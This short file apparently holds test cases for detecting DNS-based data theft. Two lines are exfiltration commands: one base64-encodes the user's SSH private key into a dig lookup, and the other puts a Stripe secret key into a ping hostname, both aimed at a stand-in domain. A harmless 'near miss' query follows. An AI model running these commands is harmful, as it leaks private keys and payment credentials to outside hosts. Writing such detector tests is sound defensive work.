dig $(cat ~/.ssh/id_rsa | base64).a.invalid
ping -c1 $STRIPE_SECRET_KEY.a.invalid
# near misses
dig +short a.invalid
